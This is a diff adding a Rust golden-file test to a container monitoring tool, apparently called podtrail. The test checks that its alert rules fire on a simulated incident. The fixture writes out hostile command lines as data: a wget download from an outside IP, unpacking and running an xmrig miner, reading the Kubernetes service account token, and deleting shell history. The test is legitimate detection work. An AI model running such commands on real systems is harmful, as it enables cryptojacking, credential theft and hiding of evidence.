@@ -1,0 +1,111 @@
+//! The seed's incident as a golden span tree with its alerts: alice opens a shell with a tty,
+//! downloads with wget from outside the cluster, unpacks with tar and gzip, runs what she
+//! unpacked, reads the service account token and removes the shell history. Compared with
+//! tests/golden/rules_incident.txt (ids and times left out); `UPDATE_GOLDEN=1` rewrites it.
+
+mod rules_common;
+mod spans_common;
+
+use std::collections::BTreeMap;
+
+use opentelemetry_sdk::trace::SpanData;
+use podtrail::capture::event::{FileOp, Transport};
+use podtrail::process::model::*;
+use rules_common::*;
+use spans_common::*;
+
+fn incident() -> Vec<SessionUpdate> {
+    let i = info(100, SessionKind::Exec, 10 * S, None);
+    let mut wget = image(0, 12 * S, "/bin/busybox", &["wget", "-O", "/tmp/t.tgz", "http://198.51.100.7/t.tgz"]);
+    wget.filename = b"/proc/self/exe".to_vec();
+    wget.connects = vec![connect(12 * S + 10, Transport::Tcp, "198.51.100.7", 80, ConnectOutcome::Connected, None, false)];
+    wget.files = vec![file(12 * S + 20, FileOp::Open, "/tmp/t.tgz", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
+    let mut tar = image(0, 14 * S, "/bin/busybox", &["tar", "xzf", "/tmp/t.tgz", "-C", "/tmp"]);
+    tar.files = vec![file(14 * S + 30, FileOp::Open, "/tmp/xmrig", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
+    let gzip = image(0, 14 * S + 10, "/bin/busybox", &["gzip", "-d"]);
+    let xmrig = image(0, 16 * S, "/tmp/xmrig", &["/tmp/xmrig", "-o", "pool:3333"]);
+    let mut cat = image(0, 18 * S, "/bin/busybox", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
+    cat.files = vec![file(18 * S + 1, FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token", None, false, 0)];
+    let mut rm = image(0, 20 * S, "/bin/busybox", &["rm", ".bash_history"]);
+    rm.files = vec![file(20 * S + 1, FileOp::Unlink, "/root/.bash_history", None, false, 0)];
+    let sh = image(0, 10 * S, "/bin/busybox", &["sh"]);
+    let mut end = i.clone();
+    end.end_ns = Some(21 * S);
+    vec![
+        SessionUpdate::Started(i.clone()),
+        SessionUpdate::ProcessEnded(i.clone(), process(101, Some(100), 12 * S, 13 * S, 0, vec![wget])),
+        SessionUpdate::ProcessEnded(i.clone(), process(103, Some(102), 14 * S + 5, 15 * S, 0, vec![gzip])),
+        SessionUpdate::ProcessEnded(i.clone(), process(102, Some(100), 14 * S, 15 * S, 0, vec![tar])),
+        SessionUpdate::ProcessEnded(i.clone(), process(104, Some(100), 16 * S, 17 * S, 0, vec![xmrig])),
+        SessionUpdate::ProcessEnded(i.clone(), process(105, Some(100), 18 * S, 18 * S + 5, 0, vec![cat])),
+        SessionUpdate::ProcessEnded(i.clone(), process(106, Some(100), 20 * S, 20 * S + 5, 0, vec![rm])),
+        SessionUpdate::Ended(end, vec![process(100, None, 10 * S, 21 * S, 0, vec![sh])]),
+    ]
+}
+
+/// Names, alert-relevant attributes and events (name + attributes) as a tree.
+fn render(spans: &[SpanData]) -> String {
+    let mut kids: BTreeMap<[u8; 8], Vec<&SpanData>> = BTreeMap::new();
+    for s in spans {
+        kids.entry(s.parent_span_id.to_bytes()).or_default().push(s);
+    }
+    for v in kids.values_mut() {
+        v.sort_by(|a, b| (a.start_time, &a.name).cmp(&(b.start_time, &b.name)));
+    }
+    fn walk(out: &mut String, kids: &BTreeMap<[u8; 8], Vec<&SpanData>>, s: &SpanData, depth: usize) {
+        let pad = "  ".repeat(depth);
+        out.push_str(&format!("{pad}{} [{:?}]\n", s.name, s.span_kind));
+        for kv in s.attributes.iter().filter(|kv| kv.key.as_str().starts_with("podtrail.alerts") || kv.key.as_str() == "user.name") {
+            out.push_str(&format!("{pad}  | {} = {}\n", kv.key, kv.value));
+        }
+        for e in s.events.iter() {
+            let mut attrs: Vec<String> = e.attributes.iter().map(|kv| format!("{}={}", kv.key, kv.value)).collect();
+            attrs.sort();
+            out.push_str(&format!("{pad}  @ {}: {}\n", e.name, attrs.join(", ")));
+        }
+        for c in kids.get(&s.span_context.span_id().to_bytes()).map(|v| v.as_slice()).unwrap_or(&[]) {
+            walk(out, kids, c, depth + 1);
+        }
+    }
+    let mut out = String::new();
+    for r in kids.get(&[0u8; 8]).cloned().unwrap_or_default() {
+        walk(&mut out, &kids, r, 0);
+    }
+    out
+}
+
+#[test]
+fn seed_incident_alerts_sit_on_the_spans_that_triggered_them() {
+    let spans = Run { who: Some(alice()), attribution_configured: true, ..Run::default() }.spans(incident());
+    let actual = render(&spans);
+    let path = format!("{}/tests/golden/rules_incident.txt", env!("CARGO_MANIFEST_DIR"));
+    if std::env::var_os("UPDATE_GOLDEN").is_some() {
+        std::fs::write(&path, &actual).unwrap();
+    }
+    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e} (run with UPDATE_GOLDEN=1 to create it)"));
+    assert!(expected == actual, "span tree differs from {path}; run with UPDATE_GOLDEN=1 to accept:\n--- actual ---\n{actual}");
+    // and, whatever the golden says, where each alert sits:
+    let fired = fired(&spans);
+    for (span, rule) in [
+        ("sh", "Terminal shell in a container"),
+        ("connect 198.51.100.7:80", "Outbound connection outside the cluster"),
+        ("xmrig", "Download then execute"),
+        ("cat", "Sensitive file read"),
+        ("rm", "Shell history tampering"),
+    ] {
+        assert!(fired.contains(&(span.to_string(), rule.to_string())), "{rule} on {span}: {fired:?}");
+    }
+    assert_eq!(fired.len(), 5, "{fired:?}");
+    assert_eq!(root_attr(&spans, "podtrail.alerts.count").as_deref(), Some("5"));
+}
+
+#[test]
+fn the_console_tree_shows_each_alert_on_its_line_and_the_total_on_the_session() {
+    let spans = Run { who: Some(alice()), attribution_configured: true, ..Run::default() }.spans(incident());
+    let text = podtrail::export::console::render_session(&spans);
+    assert!(text.contains("!! 5 alert(s), highest high: "), "{text}");
+    let rm = text.lines().find(|l| l.contains("rm .bash_history")).unwrap_or_default();
+    assert!(rm.contains("!! [high] Shell history tampering (unlink /root/.bash_history)"), "{text}");
+    let xmrig = text.lines().find(|l| l.contains("/tmp/xmrig -o")).unwrap_or_default();
+    assert!(xmrig.contains("!! [high] Download then execute"), "{text}");
+}
